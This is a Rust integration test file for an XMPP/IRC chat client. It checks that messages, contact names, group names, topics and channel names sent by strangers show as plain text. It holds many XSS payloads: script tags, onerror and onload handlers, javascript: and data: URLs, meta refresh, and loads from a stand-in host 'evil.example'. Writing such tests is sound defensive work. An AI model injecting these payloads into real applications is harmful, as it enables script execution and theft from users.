//! Promise: whatever strangers put into a text, a name or a topic shows as text; nothing of it runs, loads or leads anywhere unsafe.
#![allow(clippy::expect_used)]

use serde_json::json;
use support::{Contact, Daemon, IrcPeer, Ngircd, Page, Prosody, Window, XmppPeer, conversation, quoted};

const BELLFLOWER: &str = env!("CARGO_BIN_EXE_bellflower");

const IMAGE: &str = "<img src=x onerror=\"window.hacked=1\">";
const SVG: &str = "\"><svg onload='window.hacked=1'>";

/// Each would set `window.hacked`, open a dialog or ask a stranger's server for something, if any of it were taken for markup.
const TEXTS: [&str; 14] = [
    "<script>window.hacked=1</script>",
    "<script src=https://evil.example/x.js></script>",
    IMAGE,
    SVG,
    "</span></div></textarea></title><script>alert(1)</script>",
    "<iframe srcdoc='<script>parent.hacked=1</script>'></iframe>",
    "<style>body{display:none}</style><link rel=stylesheet href=https://evil.example/x.css>",
    "<meta http-equiv=refresh content='0;url=https://evil.example/'>",
    "javascript:window.hacked=1",
    "data:text/html,<script>window.hacked=1</script>",
    "&lt;img src=x onerror=window.hacked=1&gt; &#60;b&#62; &amp;amp; &nbsp;",
    "{{constructor.constructor('window.hacked=1')()}} ${window.hacked=1} `x`",
    "\u{202e}gnp.exe\u{202c} \u{2067}שלום\u{2069} \u{200f}\u{200b}\u{feff}end",
    "Z\u{0351}\u{036b}\u{0343}\u{036a}\u{0302}a\u{0300}\u{0301}\u{0302}\u{0303} \u{1f469}\u{200d}\u{1f469}\u{200d}\u{1f467} \u{10ffff}",
];

/// Panics unless the page holds nothing but what its own program put there.
async fn assert_unharmed(page: &Page) {
    let alert = page.browser().page().get_alert_text().await;
    assert!(alert.is_err(), "a dialog: {alert:?}");
    let found = page
        .browser()
        .eval(
            "const own = url => new URL(url, location).origin === location.origin || /^(blob|data):/.test(url);
             const safe = /^(https?|mailto|xmpp|ircs?):/;
             const bad = [...document.querySelectorAll('*')].filter(e =>
                 [...e.attributes].some(one => one.name.startsWith('on') || one.name === 'srcdoc') ||
                 (e.hasAttribute('src') && !own(e.getAttribute('src'))) ||
                 (e.tagName === 'LINK' && !own(e.href)) ||
                 (e.tagName === 'A' && !(safe.test(e.href) && e.rel.includes('noopener') && e.target === '_blank')) ||
                 ['IFRAME', 'OBJECT', 'EMBED', 'BASE'].includes(e.tagName) ||
                 (e.tagName === 'META' && e.httpEquiv === 'refresh'));
             return { bad: bad.map(e => e.outerHTML), hacked: window.hacked ?? null, here: location.pathname,
                 foreign: [...document.querySelectorAll('[data-testid=message-text] *')].map(e => e.tagName)
                     .filter(tag => !['SPAN', 'A', 'CODE', 'Q', 'BR'].includes(tag)) };",
        )
        .await;
    assert_eq!(found, json!({ "bad": [], "hacked": null, "here": "/", "foreign": [] }));
    page.assert_kept_to_itself().await;
}

#[tokio::test]
async fn texts_show_as_they_were_written() {
    let prosody = Prosody::builder().users(["ines", "bob"]).friends("ines", "bob", "Friends").start();
    let daemon = Daemon::run(BELLFLOWER);
    let mut bob = XmppPeer::connect(&prosody, "bob");
    let page = Page::open(&daemon, Window::Desk).await;
    page.sign_in_xmpp(&prosody, "ines").await;
    let talk = page.open_buddy("bob@localhost").await;
    for text in TEXTS {
        bob.say("ines@localhost", text);
    }
    for text in TEXTS {
        page.hears(&talk, text).await;
    }
    page.say(&talk, TEXTS[0]).await;
    page.say(&talk, IMAGE).await;
    for text in [TEXTS[0], IMAGE] {
        bob.hears(text);
        page.sent(&talk, text).await;
    }
    assert_unharmed(&page).await;
}

#[tokio::test]
async fn markup_keeps_only_what_is_harmless() {
    let prosody = Prosody::builder().users(["ines", "bob"]).friends("ines", "bob", "Friends").start();
    let daemon = Daemon::run(BELLFLOWER);
    let mut bob = XmppPeer::connect(&prosody, "bob");
    let page = Page::open(&daemon, Window::Desk).await;
    page.sign_in_xmpp(&prosody, "ines").await;
    let talk = page.open_buddy("bob@localhost").await;
    let payloads = [
        "<a href='javascript:window.hacked=1'>one</a>",
        "<a href=' java&#9;script:window.hacked=1'>two</a>",
        "<a href='data:text/html,x' onclick='window.hacked=1'>three</a>",
        "<a href='vbscript:x'>four</a> <a href='file:///etc/passwd'>five</a>",
        "<img src='https://evil.example/x.png' alt='six' onerror='window.hacked=1'/>six",
        "<span style='background:url(https://evil.example/y.png);position:fixed;color:red'>seven</span>",
        "<strong onmouseover='window.hacked=1'>eight</strong>",
        "<a href='https://example.org/nine'>nine</a>",
    ];
    for payload in payloads {
        bob.send(&format!(
            "<message type='chat' to='ines@localhost'><body>-</body><html xmlns='http://jabber.org/protocol/xhtml-im'>\
             <body xmlns='http://www.w3.org/1999/xhtml'>{payload}</body></html></message>"
        ));
    }
    let texts = format!("{talk} [data-testid=message-text]");
    for word in ["one", "two", "three", "four", "five", "six", "seven", "eight", "nine"] {
        page.read(&texts, word).await;
    }
    assert_unharmed(&page).await;
    let links = page.browser().eval("return [...document.querySelectorAll('[data-testid=message-text] a')].map(a => a.href)").await;
    let links: Vec<_> = links.as_array().expect("links").iter().filter_map(|link| link.as_str()).collect();
    assert!(links.contains(&"https://example.org/nine"), "{links:?}");
    // Each word could be clicked: nothing happens but for the last, which leads elsewhere.
    page.browser()
        .eval("document.querySelectorAll('[data-testid=message-text] *').forEach(e => { if (!e.closest('a')) e.click(); })")
        .await;
    assert_unharmed(&page).await;
}

#[tokio::test]
async fn names_and_topics_show_as_text() {
    let alias = format!("Bob {IMAGE}");
    let group = format!("Group {SVG}");
    let nick = "</b><img src=x onerror=window.hacked=1>";
    let topic = "<h1 onclick=window.hacked=1>Topic</h1> \u{202e}cipot";
    let contact = Contact { jid: "bob@localhost".to_owned(), name: alias.clone(), group: group.clone() };
    let prosody = Prosody::builder().users(["ines", "bob"]).contact("ines", contact).start();
    let ours = Contact { jid: "ines@localhost".to_owned(), name: "Ines".to_owned(), group: "Friends".to_owned() };
    prosody.set_roster("bob", &[ours]);
    let daemon = Daemon::run(BELLFLOWER);
    let mut bob = XmppPeer::connect(&prosody, "bob");
    let status = format!("&lt;b&gt; {SVG}");
    bob.show("away", &status);
    let room = prosody.room("gardeners");
    bob.join(&room, nick);
    bob.topic(&room, topic);
    let page = Page::open(&daemon, Window::Desk).await;
    page.sign_in_xmpp(&prosody, "ines").await;
    page.shows("[data-testid=buddy] [data-testid=buddy-name]", &alias).await;
    page.see(&format!("[data-testid=group][data-name={}]", quoted(&group))).await;
    page.read("[data-testid=group]", &group).await;
    page.read("[data-testid=buddy][data-presence=away]", &status).await;
    let talk = page.open_buddy("bob@localhost").await;
    page.shows(&format!("{talk} h2"), &alias).await;
    let talk = page.join(&[("room", "gardeners"), ("server", "rooms.localhost"), ("handle", "Ines")], &room).await;
    page.read(&format!("{talk} [data-testid=topic]"), topic).await;
    page.read(&format!("{talk} [data-testid=member]"), nick).await;
    bob.say_in(&room, "<b>I</b>");
    page.hears(&talk, "<b>I</b>").await;
    page.read(&format!("{talk} [data-testid=message]"), nick).await;
    bob.leave(&room, nick);
    page.see_no(&format!("{talk} [data-testid=member][data-name={}]", quoted(nick))).await;
    assert_unharmed(&page).await;
}

#[tokio::test]
async fn a_channel_may_have_any_name() {
    let server = Ngircd::builder().start();
    let daemon = Daemon::run(BELLFLOWER);
    let channel = "#<svg/onload=window.hacked=1>";
    let mut bob = IrcPeer::connect(&server, "bob");
    bob.join(channel);
    let topic = "<script>window.hacked=1</script> \u{2}bold\u{2} &amp; \u{3}4,1red";
    bob.topic(channel, topic);
    let page = Page::open(&daemon, Window::Desk).await;
    page.sign_in_irc(&server, "ines").await;
    let talk = page.join(&[("channel", channel)], channel).await;
    page.shows(&format!("{talk} h2"), channel).await;
    page.read("[data-testid=list-conversation]", channel).await;
    page.read("[data-testid=dock-tile]", channel).await;
    page.read(&format!("{talk} [data-testid=topic]"), "<script>window.hacked=1</script>").await;
    bob.say(channel, IMAGE);
    page.hears(&talk, IMAGE).await;
    bob.say(channel, "\u{2}bold <i>\u{2} \u{1f}under\u{1f} \u{3}4red");
    page.hears(&talk, "bold <i> under red").await;
    assert_unharmed(&page).await;
}

#[tokio::test]
async fn a_very_long_text_stays_in_its_place() {
    let prosody = Prosody::builder().users(["ines", "bob"]).friends("ines", "bob", "Friends").start();
    let daemon = Daemon::run(BELLFLOWER);
    let mut bob = XmppPeer::connect(&prosody, "bob");
    let page = Page::open(&daemon, Window::Phone).await;
    page.sign_in_xmpp(&prosody, "ines").await;
    let talk = page.open_buddy("bob@localhost").await;
    let text = "<W>&".repeat(8 * 1024);
    bob.say("ines@localhost", &text);
    bob.say("ines@localhost", "after it");
    page.hears(&talk, "after it").await;
    page.hears(&talk, &text).await;
    page.wait("document.documentElement.scrollWidth <= innerWidth").await;
    let wide = format!("return document.querySelector({}).scrollWidth <= innerWidth", quoted(&format!("{talk} .log")));
    assert_eq!(page.browser().eval(&wide).await, json!(true));
    page.see(&conversation("bob@localhost")).await;
    assert_unharmed(&page).await;
}
